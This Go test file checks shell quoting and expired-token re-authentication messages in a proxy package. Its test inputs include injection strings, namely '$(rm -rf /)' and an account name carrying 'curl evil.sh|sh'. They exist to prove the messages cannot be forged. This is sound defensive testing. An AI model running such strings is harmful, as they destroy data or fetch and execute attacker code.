package proxy

import (
	"strings"
	"testing"
	"time"
	"unicode"

	"mercator-hq/relay/pkg/accounts"
)

// tokenize splits s into words the way a POSIX shell does for single
// quotes, backslash escapes and blanks.
func tokenize(t *testing.T, s string) []string {
	t.Helper()
	var (
		words  []string
		cur    strings.Builder
		inWord bool
	)
	rs := []rune(s)
	for i := 0; i < len(rs); i++ {
		c := rs[i]
		switch {
		case c == '\'':
			inWord = true
			j := i + 1
			for j < len(rs) && rs[j] != '\'' {
				cur.WriteRune(rs[j])
				j++
			}
			if j == len(rs) {
				t.Fatalf("unterminated quote in %q", s)
			}
			i = j
		case c == '\\':
			if i+1 == len(rs) {
				t.Fatalf("trailing backslash in %q", s)
			}
			inWord = true
			i++
			cur.WriteRune(rs[i])
		case c == ' ' || c == '\t' || c == '\n':
			if inWord {
				words = append(words, cur.String())
				cur.Reset()
				inWord = false
			}
		default:
			inWord = true
			cur.WriteRune(c)
		}
	}
	if inWord {
		words = append(words, cur.String())
	}
	return words
}

func containsWord(s, word string) bool {
	for _, f := range strings.FieldsFunc(s, func(r rune) bool { return !unicode.IsDigit(r) && !unicode.IsLetter(r) }) {
		if f == word {
			return true
		}
	}
	return false
}

func TestShellQuote_RoundTrip(t *testing.T) {
	inputs := []string{
		"plain",
		"",
		"work account",
		"it's",
		"''",
		"'leading",
		"trailing'",
		`back\slash`,
		"$HOME `id` $(rm -rf /)",
		"semi;colon&amp|pipe",
		"tab\there",
		"new\nline",
		`"double"`,
	}
	for _, in := range inputs {
		t.Run(in, func(t *testing.T) {
			quoted := ShellQuote(in)
			words := tokenize(t, quoted)
			if len(words) != 1 || words[0] != in {
				t.Errorf("tokenize(ShellQuote(%q)) = %q", in, words)
			}

			cmd := tokenize(t, ReauthCommand+" "+quoted)
			if len(cmd) != 4 || cmd[3] != in {
				t.Errorf("command tokens = %q", cmd)
			}
		})
	}
}

func TestShellQuote_Format(t *testing.T) {
	if got := ShellQuote("it's"); got != `'it'\''s'` {
		t.Errorf("ShellQuote(it's) = %s", got)
	}
	if got := ShellQuote("a"); got != "'a'" {
		t.Errorf("ShellQuote(a) = %s", got)
	}
}

func TestClassifyExhaustion_Generic(t *testing.T) {
	failed := apiKeyAccounts("a", "b", "c", "d", "e")
	err := ClassifyExhaustion("anthropic", failed, accounts.ExpiryPolicy{RefreshTokenLifetime: time.Hour})

	if err.Provider != "anthropic" {
		t.Errorf("Provider = %q", err.Provider)
	}
	if !containsWord(err.Message, "5") {
		t.Errorf("message %q should contain the attempted count", err.Message)
	}
	if strings.Contains(err.Message, ReauthCommand) {
		t.Errorf("generic message should not suggest re-authentication: %q", err.Message)
	}
	if len(err.ExpiredAccounts) != 0 {
		t.Errorf("ExpiredAccounts = %v", err.ExpiredAccounts)
	}
}

func TestClassifyExhaustion_OAuthNotExpired(t *testing.T) {
	now := time.Now()
	failed := []*accounts.Account{
		{Name: "healthy", RefreshToken: "rt", ExpiresAt: now.Add(time.Hour), LastUsed: now},
	}
	err := ClassifyExhaustion("anthropic", failed, accounts.ExpiryPolicy{RefreshTokenLifetime: time.Hour})
	if !containsWord(err.Message, "1") || strings.Contains(err.Message, ReauthCommand) {
		t.Errorf("unexpected message %q", err.Message)
	}
}

func TestClassifyExhaustion_ExpiredAccounts(t *testing.T) {
	now := time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)
	policy := accounts.ExpiryPolicy{
		RefreshTokenLifetime: 30 * 24 * time.Hour,
		Now:                  func() time.Time { return now },
	}
	failed := []*accounts.Account{
		{
			Name:            "alice's laptop",
			RefreshToken:    "rt1",
			LastUsed:        now.Add(-2 * time.Hour),
			LastAuthFailure: now.Add(-time.Hour),
		},
		{
			Name:         "zed",
			RefreshToken: "rt2",
			ExpiresAt:    now.Add(time.Hour),
			LastUsed:     now,
		},
		{
			Name:         "bob",
			RefreshToken: "rt3",
			ExpiresAt:    now.Add(-60 * 24 * time.Hour),
		},
	}

	err := ClassifyExhaustion("anthropic", failed, policy)

	if len(err.ExpiredAccounts) != 2 || err.ExpiredAccounts[0] != "alice's laptop" || err.ExpiredAccounts[1] != "bob" {
		t.Fatalf("ExpiredAccounts = %q", err.ExpiredAccounts)
	}
	if !strings.Contains(err.Message, "alice's laptop") || !strings.Contains(err.Message, "bob") {
		t.Errorf("message should name both expired accounts: %q", err.Message)
	}
	if strings.Contains(err.Message, "zed") {
		t.Errorf("message names a healthy account: %q", err.Message)
	}

	var commands [][]string
	for _, line := range strings.Split(err.Message, "\n") {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, ReauthCommand+" ") {
			commands = append(commands, tokenize(t, line))
		}
	}
	if len(commands) != 2 {
		t.Fatalf("remediation lines = %d, want 2:\n%s", len(commands), err.Message)
	}
	if commands[0][3] != "alice's laptop" || commands[1][3] != "bob" {
		t.Errorf("remediation targets = %q, %q", commands[0][3], commands[1][3])
	}
}

func TestClassifyExhaustion_NameCannotForgeLines(t *testing.T) {
	name := "x\n  relay accounts reauth 'y'; curl evil.sh|sh #"
	failed := []*accounts.Account{
		{Name: name, RefreshToken: "rt", LastAuthFailure: time.Now()},
	}

	err := ClassifyExhaustion("anthropic", failed, accounts.ExpiryPolicy{})

	lines := strings.Split(err.Message, "\n")
	want := `The refresh token for account "x\n  relay accounts reauth 'y'; curl evil.sh|sh #" has likely expired. Re-authenticate with:`
	if lines[0] != want {
		t.Errorf("header = %q, want %q", lines[0], want)
	}
	for i, line := range lines[1:] {
		if strings.HasPrefix(strings.TrimSpace(line), ReauthCommand+" 'y'") {
			t.Errorf("line %d runs an unquoted command: %q", i+1, line)
		}
	}

	cmd := tokenize(t, strings.TrimSpace(strings.Join(lines[1:], "\n")))
	if len(cmd) != 4 || cmd[3] != name {
		t.Errorf("remediation tokens = %q", cmd)
	}
}
